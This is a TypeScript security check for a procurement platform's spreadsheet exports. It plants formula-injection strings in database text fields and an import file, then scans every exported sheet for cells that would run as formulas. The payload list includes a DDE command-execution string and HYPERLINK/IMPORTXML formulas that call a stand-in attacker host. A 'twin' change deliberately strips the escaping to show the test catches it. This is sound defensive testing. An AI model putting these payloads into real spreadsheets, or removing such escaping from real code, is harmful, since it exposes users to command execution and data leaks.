import { unzipSync } from 'fflate'
import { categoryId } from '../../../server/src/modules/goods/factory.ts'
import { makeSheet } from '../../../server/src/modules/goods/imports/factory.ts'
import { identityNames } from '../../../server/src/testing/identities.ts'
import type { Check, Given, Outcome } from '../check.ts'
import { calls, multipart, type NamedCall, requestOf } from '../contract/calls.ts'
import { validInput } from '../contract/inputs.ts'
import { patient } from '../stage/ask-again-when-busy.ts'
import { makePeople, type People } from '../stage/people.ts'
import type { Reply } from '../stage/request.ts'
import type { Stage } from '../stage/stage.ts'

const formulas: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","看")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML("http://evil.example")',
  '＝1+1',
  '%0A=1+1',
]
/** Lists that are exported, with the texts in them. */
const tables: readonly string[] = [
  'intent_order',
  'order_line',
  'content',
  'demand',
  'inquiry',
  'inquiry_line',
  'quotation',
  'library_lead',
  'account',
  'company',
  'enrolment',
  'word',
  'goods',
]
/** Exports that are written by a program of a person for people: their files are sheets. */
const isSheet = (reply: Reply): boolean => reply.bytes.subarray(0, 2).toString() === 'PK'

/** S8: no cell of any export becomes a formula. */
export const exportsCheck: Check = {
  id: 'S8',
  title: 'formula injection in every export',
  twin: {
    says: 'texts are written as they are',
    changes: [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text of the source
      { file: 'server/src/sheets/excel.ts', from: "(/^[=+\\-@\\t\\r]/.test(text) ? `'${text}` : text)", to: 'text' },
    ],
  },
  async run(given: Given): Promise<Outcome> {
    let people = {} as People
    const stage = await given.stage({
      prepare: async database => {
        people = await makePeople(database, given.size({ milestone: 200, small: 60 }))
      },
    })
    const breaches: string[] = []
    const planted = await plantFormulas(stage)
    const downloads = calls.filter(
      ({ call, name }) => call.kind === 'download' && !name.startsWith('file.') && name !== 'library.structure',
    )
    let files = 0
    let cells = 0
    const look = (name: string, reply: Reply) => {
      if (reply.status >= 500) breaches.push(`${name}: answered ${reply.status}`)
      if (!isSheet(reply)) return
      files++
      const found = formulasIn(reply.bytes)
      cells += found.cells
      for (const text of found.formulas) breaches.push(`${name}: ${JSON.stringify(text)}`)
    }
    for (const named of downloads) {
      for (const identity of identityNames) {
        const inputs = await inputsOf(named, stage, given)
        for (const input of inputs)
          look(named.name, await patient(stage.client).ask(requestOf(named, input, people[identity].enter())))
        await stage.sql('delete from rate_limit')
      }
    }
    look('goodsInfo.importErrorFile', await errorFile(stage, people))
    if (cells === 0) breaches.push('no export held anything')
    return {
      figure: `${formulas.length} forms in ${planted} columns, ${downloads.length} exports x ${identityNames.length} identities: ${files} sheets with ${cells} cells, ${breaches.length} formulas`,
      breaches,
    }
  },
}

/** Every text of the exported lists becomes a formula, as far as the database lets it. */
async function plantFormulas(stage: Stage): Promise<number> {
  const columns = await stage.sql<{ table_name: string; column_name: string }>(
    `select table_name, column_name from information_schema.columns
     where table_schema = 'public' and data_type = 'text' and table_name = any($1)`,
    [tables],
  )
  let planted = 0
  for (const { table_name, column_name } of columns) {
    if (
      /status|type|kind|state|phone|login|_no$|number|code|province|city|area|source|key/.test(column_name) &&
      column_name !== 'catalog_no'
    )
      continue
    const list = formulas
      .map(text => `E'${text.replaceAll("'", "''").replaceAll('\t', '\\t').replaceAll('\r', '\\r')}'`)
      .join(', ')
    // checks of the table may say no; then nobody can store it there
    const done = await stage
      .sql(
        `update "${table_name}" set "${column_name}" = (array[${list}])[1 + abs(hashtext(ctid::text)) % ${formulas.length}]`,
      )
      .then(() => 1)
      .catch((error: { code?: string }) => {
        if (error.code !== '23514' && error.code !== '23505' && error.code !== '23503') throw error
        return 0
      })
    planted += done
  }
  return planted
}

async function inputsOf(
  { call, name }: NamedCall,
  stage: Stage,
  { random }: Given,
): Promise<Record<string, unknown>[]> {
  const plain: Record<string, unknown> = {}
  const inputs = [plain, { isBusiness: true }, { isBusiness: false }].filter(
    input => call.input.safeParse(input).success,
  )
  if (name === 'inquiry.exportCompare') {
    const groups = await stage.sql<{ group_no: string }>(
      'select distinct group_no from inquiry where group_no is not null limit 5',
    )
    inputs.push(...groups.map(({ group_no }) => ({ groupNo: group_no })))
  }
  if (name === 'goodsInfo.downloadTemplate') inputs.push({ categoryId: categoryId('chem.buffer.bio') })
  const valid = validInput(call, random)
  return valid ? [...inputs, valid] : inputs
}

/** What an import could not take goes back to the supplier as a sheet. */
async function errorFile(stage: Stage, people: People): Promise<Reply> {
  const client = patient(stage.client)
  const token = people.supplier.enter()
  const bytes = await makeSheet([
    ['货号', '商品名称', '规格', '价格（元）'],
    ...formulas.map(text => [text, text, text, text]),
  ])
  const { headers, body } = multipart(
    { categoryId: categoryId('chem.buffer.bio') },
    { name: 'a.xlsx', type: 'application/octet-stream', bytes },
  )
  const { data } = await client.ask({
    method: 'POST',
    path: '/api/goods/goodsInfo/importExcel',
    token,
    headers,
    body,
  })
  return client.ask({ method: 'GET', path: `/api/goods/goodsInfo/importErrorFile?id=${data?.import?.id}`, token })
}

/** Formula elements, and texts that a table program would read as one. */
function formulasIn(bytes: Buffer): { cells: number; formulas: string[] } {
  const found: string[] = []
  let cells = 0
  for (const [name, content] of Object.entries(unzipSync(bytes))) {
    if (!/^xl\/(worksheets|sharedStrings)/.test(name)) continue
    const xml = Buffer.from(content).toString('utf8')
    found.push(...[...xml.matchAll(/<f[ >][^<]*/g)].map(match => match[0]))
    for (const [, text = ''] of xml.matchAll(/<t[^>]*>([^<]*)/g)) {
      cells++
      // what the platform itself offers to choose from (-20℃) is text in a cell of text
      if (/^[=+\-@\t\r]/.test(text) && !/^-\d+℃$/.test(text)) found.push(text)
    }
  }
  return { cells, formulas: found }
}
